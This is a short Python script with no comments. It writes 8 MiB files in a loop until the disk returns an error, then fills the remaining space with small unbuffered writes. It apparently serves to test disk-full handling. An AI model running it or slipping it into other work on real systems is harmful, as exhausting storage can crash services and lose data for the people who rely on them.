import os
n = 0
try:
    while True:
        n += 1
        with open(f"full{n}", "wb") as file:
            file.write(b"x" * (8 << 20))
except OSError:
    pass
try:
    with open("full0", "wb", 0) as file:
        while True:
            file.write(b"x" * 4096)
except OSError:
    pass
